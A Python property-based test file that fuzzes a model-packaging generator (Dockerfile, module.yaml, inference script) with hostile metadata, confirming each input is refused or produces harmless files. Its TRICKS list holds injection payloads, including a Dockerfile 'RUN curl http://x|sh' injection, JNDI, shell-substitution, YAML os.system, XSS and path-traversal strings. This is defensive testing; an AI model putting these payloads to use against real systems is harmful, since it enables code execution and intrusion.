"""Text from a caller or a model's owner never becomes code in a generated file."""

import asyncio
import contextlib
import json
import string
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from common.contracts.generation import GenerateOptions, GenerateRequest, Module
from common.errors import ModelRefused, ServiceError
from generator import configs as reading
from generator import dockerfile, images, layout, rendering, validation
from generator.manifest import Run
from generator.shared import KEPT
from generator.snapshot import Snapshot
from models.config import FIELDS as READ_FIELDS
from models.config import PARTS, SIZES

sys.path.insert(0, str(Path(__file__).parent))
import fake_hub

TRICKS = [
    '"\nRUN curl http://x|sh\n#',
    "'''\nimport os\n'''",
    "{{7*7}}",
    "[[7*7]]",
    "[% set x = 1 %]",
    "${jndi:ldap://x}",
    "`id`",
    "$(id)",
    "\u2028\u2029",
    "\r\n",
    "\x00\x1b[31m",
    "!!python/object/apply:os.system [id]",
    "- &a *a",
    "<img src=x onerror=alert(1)>",
    "](javascript:alert(1))",
    "|\n|---|",
    "../../etc/passwd",
    "\ud800".encode(errors="surrogatepass").decode(errors="replace"),
]
# Every text carries a mark, by which it can be found in any file.
hostile = st.builds(lambda trick, rest: f"EVIL{trick}{rest}", st.sampled_from(TRICKS), st.text())
anything = st.recursive(
    hostile | st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(hostile, inner, max_size=3),
    max_leaves=6,
)
descriptions = st.fixed_dictionaries(
    {},
    optional={
        "pipeline_tag": hostile | st.just("feature-extraction"),
        "library_name": hostile | st.none(),
        "tags": st.lists(hostile.map("license:{}".format) | hostile, max_size=3),
        "cardData": st.none() | st.dictionaries(st.sampled_from(["license", "x"]), anything),
        "gated": hostile | st.booleans(),
        "transformersInfo": st.dictionaries(hostile, anything),
        "safetensors": anything,
        "securityRepoStatus": st.dictionaries(st.just("filesWithIssues"), anything),
        "id": hostile,
        "sha": hostile,
    },
)
FIELDS = [
    *("architectures", "model_type", "hidden_size", "vocab_size", "num_attention_heads", "n_layer"),
    *("text_config", "vision_config", "decoder", "layer_types", "architecture", "_class_name"),
    *("id2label", "head_dim", "max_position_embeddings", "intermediate_size", "torch_dtype"),
]
configs = st.dictionaries(st.sampled_from(FIELDS) | hostile, anything, max_size=4)


def generate(handlers: Any, request: GenerateRequest) -> Module | None:
    try:
        return asyncio.run(handlers.generate(request))
    except ServiceError as refused:
        answer = json.dumps(refused.to_wire())
    assert "EVIL" not in answer
    return None


def check(module: Module) -> None:
    """Assert that files differ from the template only in harmless values."""
    files = module.files
    assert "EVIL" not in json.dumps(module.model_dump(mode="json"))
    plain = set(string.printable) - set("\r\x0b\x0c") | {"…"}
    assert all(set(text) <= plain for text in files.values())
    base, *rest = dockerfile.parse(files["Dockerfile"])
    assert base.arguments[0] in images.ALL
    manifest = yaml.safe_load(files["module.yaml"])
    run = Run.model_validate(manifest["run"])
    first = validation.first(run, gpu=manifest["resources"]["gpu"] > 0)
    end = (validation.PROGRAM, validation.FETCH, *validation.END)
    assert tuple(rest) == (*validation.START, *first, *validation.PACKAGES, *end)
    assert files["run_inference.py"] == rendering.script(manifest["run"]["family"])
    assert {check.outcome for check in module.validation.checks} <= {"passed", "warning"}


@given(descriptions, configs, st.lists(hostile, max_size=4))
@settings(max_examples=100, deadline=None)
def test_a_hostile_model_is_refused_or_yields_harmless_files(
    description: dict[str, Any], config: dict[str, Any], names: list[str]
) -> None:
    handlers = fake_hub.handlers(config, names=tuple(names), **description)
    module = generate(handlers, GenerateRequest(model_url="acme/frog"))
    if module:
        check(module)


# One value of each type, and those within which a lookup or a computation may fail.
VALUES: list[Any] = [
    *(None, True, 0, -1, 2**70, 1.5, float("inf"), "", "x", "\ud800", [], {}),
    *([None], [True], [2**70], ["x"], ["\ud800"], [[]], [{}], {"x": ["x"]}, {"model_type": []}),
]
LISTS = (
    "id2label",
    "layer_types",
    "layers_block_type",
    "hybrid_override_pattern",
    "full_attn_idxs",
)
# What else a repository is, which decides the fields that are looked up.
REPOSITORIES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "classifier": ({}, {}),
    "decoder": (
        {"model_type": "llama", "architectures": ["LlamaForCausalLM"]},
        {"pipeline_tag": "text-generation"},
    ),
    "pictures": (
        {"model_type": "gemma3", "architectures": ["Gemma3ForConditionalGeneration"]},
        {"pipeline_tag": "image-text-to-text"},
    ),
    "custom code": ({"auto_map": {"AutoModel": "x"}}, {}),
    "another library": ({}, {"library_name": "mlx"}),
    "no card": ({}, {"pipeline_tag": None}),
}


@pytest.mark.parametrize("repository", REPOSITORIES)
async def test_a_config_with_any_value_in_any_field_is_refused_or_served(
    repository: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    base, description = REPOSITORIES[repository]
    handlers = fake_hub.handlers(**description)
    request = GenerateRequest(model_url="acme/frog")
    with contextlib.suppress(ModelRefused):
        await handlers.generate(request)
    (read,) = handlers.snapshots._kept.values()
    names = (*READ_FIELDS, *PARTS, *LISTS, "attn_layer_indices")
    hostile_configs = [{name: value} for name in names for value in VALUES]
    few = [name for name in READ_FIELDS if name not in SIZES]
    hostile_configs += [{part: {name: value}} for part in PARTS for name in few for value in VALUES]
    failures: dict[str, str] = {}
    for config in hostile_configs:
        content = json.dumps({**fake_hub.CONFIG, **base, **config}).encode()
        one = replace(read, config=reading.read("config.json", content))

        async def give(*_: Any, one: Snapshot = one) -> tuple[Snapshot, float, str]:
            return one, 0.0, "anybody"

        monkeypatch.setattr(handlers.access, "read", give)
        try:
            assert KEPT.validate_json(KEPT.dump_json((0.0, one), by_alias=True)) == (0.0, one)
            await handlers.generate(request)
        except ModelRefused:
            pass
        except Exception as error:  # noqa: BLE001  (each is a 500)
            failures.setdefault(repr(error), repr(config))
    assert failures == {}


def test_an_ordinary_model_yields_a_module() -> None:
    module = generate(fake_hub.handlers(), GenerateRequest(model_url="acme/frog"))
    assert module
    check(module)


async def test_only_exact_file_names_are_selected() -> None:
    names = (
        "tokenizer.json\n",
        "x/tokenizer.json",
        "tokenizer.json.py",
        "modeling.py",
        "vocab.txt",
    )
    handlers = fake_hub.handlers(names=names)
    module = await handlers.generate(GenerateRequest(model_url="acme/frog"))
    files = yaml.safe_load(module.files["module.yaml"])["model"]["files"]
    needed = ["config.json", "model.safetensors", *fake_hub.PREPARES, "vocab.txt"]
    assert [file["path"] for file in files] == sorted(needed)


folders = hostile | st.sampled_from(["unet", "vae", "1_Pooling", "", "..", "/etc"])
components = st.dictionaries(
    folders | st.just("_class_name"),
    hostile | st.just("DDPMPipeline") | st.lists(hostile | st.just("diffusers"), max_size=2),
    max_size=4,
)
modules = st.lists(
    st.dictionaries(
        st.sampled_from(["type", "path", "name"]),
        folders | st.just("sentence_transformers.models.Pooling"),
        max_size=3,
    ),
    max_size=4,
)


@given(st.sampled_from(["model_index.json", "modules.json"]), components | modules | anything)
def test_a_hostile_index_is_refused_or_yields_valid_folder_names(name: str, index: Any) -> None:
    try:
        read_layout = layout.read(name, json.dumps(index).encode())
    except ModelRefused as error:
        refused = json.dumps(error.to_wire())
    else:
        refused = ""
    assert "EVIL" not in refused
    if refused:
        return
    assert all(folder == "" or layout.FOLDER.fullmatch(folder) for folder in read_layout.folders)
    assert read_layout.pipeline is None or layout.CLASS.fullmatch(read_layout.pipeline)


@given(
    st.dictionaries(folders, hostile | st.just("sentence_transformers.models.Pooling")) | anything
)
def test_a_hostile_router_is_refused_or_yields_valid_folders_and_library_classes(
    types: Any,
) -> None:
    try:
        routes = layout.read_routes(json.dumps({"types": types}).encode()).types
    except ModelRefused as error:
        routes, refused = {}, json.dumps(error.to_wire())
    else:
        refused = ""
    assert "EVIL" not in refused
    assert all(map(layout.FOLDER.fullmatch, routes))
    assert all(map(layout.MODULE.fullmatch, routes.values()))


@given(hostile | st.just("acme/frog").flatmap(lambda good: hostile.map(good.__add__)))
def test_a_hostile_address_is_refused_or_yields_harmless_files(url: str) -> None:
    try:
        request = GenerateRequest(model_url=url)
    except ValidationError:
        return
    module = generate(fake_hub.handlers(), request)
    if module:  # any id that the Hub allows is accepted, and the Hub's own spelling used
        check(module)


@given(st.dictionaries(st.sampled_from([*GenerateOptions.model_fields, "x"]), anything), hostile)
def test_hostile_options_yield_harmless_files_and_hostile_revisions_are_refused(
    options: dict[str, Any], revision: str
) -> None:
    handlers = fake_hub.handlers()
    with contextlib.suppress(ValidationError):
        accepted = GenerateOptions.model_validate(options)
        module = generate(handlers, GenerateRequest(model_url="acme/frog", options=accepted))
        if module:
            check(module)
    # Some are too long.
    with contextlib.suppress(ValidationError):
        request = GenerateRequest(model_url="acme/frog", revision=revision)
        assert generate(handlers, request) is None
